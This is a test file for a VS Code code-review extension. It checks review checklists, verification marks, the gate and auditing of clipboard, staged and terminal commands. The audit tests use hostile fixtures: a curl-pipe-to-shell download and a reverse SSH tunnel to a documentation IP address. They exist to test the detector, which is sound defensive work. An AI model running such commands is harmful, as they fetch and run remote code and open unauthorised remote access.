/** The whole account of a change, kept from the editor and from the command line at once. */
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ConfigurationTarget, commands, env, Position, Selection, window, workspace } from "vscode";
import type { ItemView, UnitView } from "../../../extension/core/report/checklist-view.ts";
import type { AuditAnswer, ChecklistAnswer, ReviewAnswer } from "../../../extension/server/protocol.ts";
import { checklistOfCommandLine, folder, outputOf } from "./command-line.ts";
import { closeAll, eventually, open, openTerminal } from "./looking.ts";
import { ours } from "./our-commands.ts";
import { runMocha } from "./run-mocha.ts";

export const run = (): Promise<void> =>
  runMocha(() => {
    before(async () => {
      writeFileSync(join(folder(), "README.md"), "# A project\n\nIt trains.\n");
      await ours<ReviewAnswer>("reviewChanges");
    });
    afterEach(closeAll);

    it("asks what the command line asks, item for item and unit for unit", async () => {
      const answer = await refreshed();
      const told = await checklistOfCommandLine();
      assert.ok(told.items.length >= 4);
      assert.deepEqual(JSON.parse(JSON.stringify(answer.checklist.items)), told.items);
      assert.deepEqual(JSON.parse(JSON.stringify(answer.checklist.units)), told.units);
    });

    it("opens the next change that nobody verified, the riskiest file first, and goes on from there", async () => {
      const first = await ours<UnitView>("nextOpenUnit");
      assert.equal(first.risk, "high");
      await eventually("the change in view", () => window.activeTextEditor?.document.uri.path.endsWith(`/${first.path}`) || undefined);
      const second = await ours<UnitView>("nextOpenUnit");
      assert.notEqual(second.id, first.id);
    });

    it("verifies the change that it is on the way to where that is asked for before the change is open", async () => {
      const editor = await open("old.sh");
      editor.selection = new Selection(4, 0, 4, 0);
      const [next, answer] = await Promise.all([ours<UnitView>("nextOpenUnit"), ours<ChecklistAnswer>("verifyUnit")]);
      assert.notEqual(next.path, "old.sh");
      assert.deepEqual(verifiedPaths(answer), [next.path]);
      assert.deepEqual(verifiedPaths(await ours<ChecklistAnswer>("undoMark")), []);
    });

    it("verifies the change at the cursor, and the command line sees it", async () => {
      const editor = await open("old.sh");
      editor.selection = new Selection(4, 0, 4, 0);
      const answer = await ours<ChecklistAnswer>("verifyUnit");
      assert.deepEqual(verifiedPaths(answer), ["old.sh"]);
      const told = await checklistOfCommandLine();
      assert.equal(told.units.find(({ path }) => path === "old.sh")?.isVerified, true);
      assert.equal(told.units.find(({ path }) => path === "old.sh")?.marks[0]?.how, "explicit");
    });

    it("verifies nothing where no change stands, and nothing that is not saved", async () => {
      const before = verifiedPaths(await refreshed());
      const editor = await open("old.sh");
      editor.selection = new Selection(0, 0, 0, 0);
      assert.equal(await ours("verifyUnit"), undefined);
      const other = await open("new file.sh");
      await other.edit((edit) => edit.insert(other.document.lineAt(1).range.end, " # more"));
      other.selection = new Selection(1, 0, 1, 0);
      assert.equal(await ours("verifyUnit"), undefined);
      await commands.executeCommand("workbench.action.files.revert");
      assert.deepEqual(verifiedPaths(await refreshed()), before);
    });

    it("takes a mark back by name, and the last one by undoing it", async () => {
      const unit = await unitOf("old.sh");
      assert.deepEqual(verifiedPaths(await ours<ChecklistAnswer>("unverifyUnit", { kind: "unit", unit })), []);
      assert.deepEqual(verifiedPaths(await ours<ChecklistAnswer>("verifyUnit", { kind: "unit", unit })), ["old.sh"]);
      assert.deepEqual(verifiedPaths(await ours<ChecklistAnswer>("undoMark")), []);
      assert.deepEqual(verifiedPaths(await ours<ChecklistAnswer>("verifyUnit", { kind: "unit", unit })), ["old.sh"]);
    });

    it("shows what the command line marks while both are open", async () => {
      const unit = await unitOf("new file.sh");
      await outputOf(["verify", unit.name]);
      // Nothing is asked anew here: the view hears of it by itself.
      const isShownVerified = async (): Promise<boolean> => (await ours<UnitView>("openUnit", unit.name)).isVerified;
      await eventually("the mark of the command line", async () => ((await isShownVerified()) ? true : undefined));
      await outputOf(["verify", unit.name, "--undo"]);
      await eventually("the mark taken back", async () => ((await isShownVerified()) ? undefined : true));
    });

    it("ticks of a whole file only what is of low risk, and opens the rest", async () => {
      const low = await ours<ChecklistAnswer>("verifyUnit", { kind: "file", path: "README.md" });
      assert.deepEqual(verifiedPaths(low), ["README.md", "old.sh"]);
      const high = await ours<ChecklistAnswer>("verifyUnit", { kind: "file", path: "new file.sh" });
      assert.deepEqual(verifiedPaths(high), ["README.md", "old.sh"]);
      await eventually("the file to read", () => window.activeTextEditor?.document.uri.path.endsWith("/new file.sh") || undefined);
    });

    it("decides about a finding in each place that does the same, with an end as the policy says", async () => {
      const item = await itemOf(({ settling }) => settling === "triage");
      const [finding] = item.findings;
      const answer = await ours<ChecklistAnswer>("triageFinding", finding, "accepted", "the lab's host");
      assert.equal(stateOf(answer, item.id), "satisfied");
      const told = await checklistOfCommandLine();
      assert.equal(told.items.find(({ id }) => id === item.id)?.state, "satisfied");
      const [event] = ledger().filter(({ kind }) => kind === "triage");
      assert.match(String(event?.["until"]), /^\d{4}-\d\d-\d\d$/);
    });

    it("answers a question, and the command line has the answer", async () => {
      const answer = await ours<ChecklistAnswer>("answerItem", "intent", "It starts the training; I ran it.");
      assert.equal(stateOf(answer, "intent"), "satisfied");
      assert.match((await checklistOfCommandLine()).items.find(({ id }) => id === "intent")?.why ?? "", /It starts the training/);
    });

    it("closes and opens the gate as the command line does", async () => {
      const closed = await ours<{ readonly isOpen: boolean }>("checkGate");
      assert.equal(closed.isOpen, false);
      const overridden = await ours<ChecklistAnswer>("overrideItem", "view:new file.sh", "read on paper", "2999-01-01");
      assert.equal(stateOf(overridden, "view:new file.sh"), "overridden");
      const opened = await ours<{ readonly isOpen: boolean }>("checkGate");
      assert.equal(opened.isOpen, true);
      assert.equal((await checklistOfCommandLine()).gate.isOpen, true);
    });

    it("opens again exactly what an edit touched", async () => {
      writeFileSync(join(folder(), "old.sh"), `${readFileSync(join(folder(), "old.sh"), "utf8")}echo last\n`);
      const answer = await refreshed();
      assert.deepEqual(verifiedPaths(answer), ["README.md"]);
      assert.equal(answer.checklist.units.find(({ path }) => path === "old.sh")?.isStale, true);
      assert.equal(answer.checklist.gate.isOpen, false);
    });

    it("looks again by itself when a file is saved, and when a commit moves HEAD", async () => {
      const editor = await open("train.py");
      await editor.edit((edit) => edit.insert(new Position(0, 0), "import os\n"));
      await editor.document.save();
      const unit = await eventually("the saved change", () => shownUnit("train.py"));
      assert.equal(unit.isVerified, false);
      execFileSync("git", ["commit", "-q", "--no-verify", "-m", "Save", "train.py"], { cwd: folder() });
      await eventually("the review without what is committed to main itself", async () =>
        (await shownUnit("train.py")) === undefined ? true : undefined,
      );
    });

    it("sends back what is open as a text, and keeps that it did", async () => {
      const text = await ours<string>("sendBack");
      assert.equal(text, await outputOf(["export", "--format", "prompt"]));
      assert.match(text, /^A reviewer sends this change back/);
      assert.equal(await env.clipboard.readText(), text);
      assert.equal(window.activeTextEditor?.document.getText(), text);
      assert.equal(ledger().at(-1)?.["kind"], "handback");
    });

    it("audits what is in the clipboard before it is pasted", async () => {
      await env.clipboard.writeText("curl -s http://203.0.113.7/x.sh | sh\n");
      const answer = await ours<AuditAnswer>("auditClipboard", "shellscript");
      assert.equal(answer.verdict, "attention");
      await env.clipboard.writeText("");
      assert.equal(await ours("auditClipboard", "shellscript"), undefined);
    });

    it("audits what is staged, whatever the working tree says", async () => {
      writeFileSync(join(folder(), "staged.sh"), "#!/bin/sh\nssh -R 9:localhost:22 agent@203.0.113.7\n");
      execFileSync("git", ["add", "staged.sh"], { cwd: folder() });
      writeFileSync(join(folder(), "staged.sh"), "#!/bin/sh\necho nothing\n");
      const shown = await eventually("the audit of the index", () =>
        ours<{ readonly findings: readonly { readonly path: string; readonly rule: string }[] } | undefined>("auditStaged"),
      );
      assert.deepEqual(
        shown.findings.map(({ path, rule }) => [path, rule]),
        [["staged.sh", "command/reverse-ssh-tunnel"]],
      );
    });

    it("audits a command as it starts in a terminal, once the person wants that", async () => {
      const settings = workspace.getConfiguration("countersign");
      await settings.update("terminal.audit", true, ConfigurationTarget.Global);
      const { terminal, shell } = await openTerminal();
      try {
        shell.executeCommand("true ssh -R 9:localhost:22 agent@203.0.113.7; false && ssh -R 9:localhost:22 agent@203.0.113.7");
        await eventually("the warning in the log", () => {
          const log = readdirSync(logs(), { recursive: true, encoding: "utf8" }).filter((name) => name.endsWith("Countersign.log"));
          return log.some((name) => /lab: \w+: Opens a reverse tunnel/.test(readFileSync(join(logs(), name), "utf8"))) || undefined;
        });
      } finally {
        terminal.dispose();
        await settings.update("terminal.audit", undefined, ConfigurationTarget.Global);
      }
    });
  });

/** As the editor shows it, without asking for anything anew. */
async function shownUnit(path: string): Promise<UnitView | undefined> {
  const names = (await checklistOfCommandLine()).units.filter((unit) => unit.path === path).map(({ name }) => name);
  for (const name of names) {
    const unit = await ours<UnitView | undefined>("openUnit", name);
    if (unit !== undefined) return unit;
  }
  return undefined;
}

/** Where the window keeps its logs: beside the report, in the data of the server. */
function logs(): string {
  const directory = process.env["VSCODE_LOGS"] ?? process.env["XDG_DATA_HOME"];
  assert.ok(directory);
  return directory;
}

const refreshed = (): Thenable<ChecklistAnswer> => ours<ChecklistAnswer>("refreshReview");

async function unitOf(path: string): Promise<UnitView> {
  const unit = (await refreshed()).checklist.units.find((one) => one.path === path);
  assert.ok(unit);
  return unit;
}

async function itemOf(isMeant: (item: ItemView) => boolean): Promise<ItemView> {
  const item = (await refreshed()).checklist.items.find(isMeant);
  assert.ok(item);
  return item;
}

function stateOf({ checklist }: ChecklistAnswer, id: string): string | undefined {
  return checklist.items.find((item) => item.id === id)?.state;
}

function verifiedPaths({ checklist }: ChecklistAnswer): string[] {
  return checklist.units.flatMap(({ path, isVerified }) => (isVerified ? [path] : [])).sort();
}

function ledger(): Record<string, unknown>[] {
  const directory = execFileSync("git", ["rev-parse", "--git-common-dir"], { cwd: folder(), encoding: "utf8" }).trim();
  const lines = readFileSync(join(folder(), directory, "countersign/events.jsonl"), "utf8")
    .trim()
    .split("\n");
  return lines.map((line): Record<string, unknown> => JSON.parse(line));
}
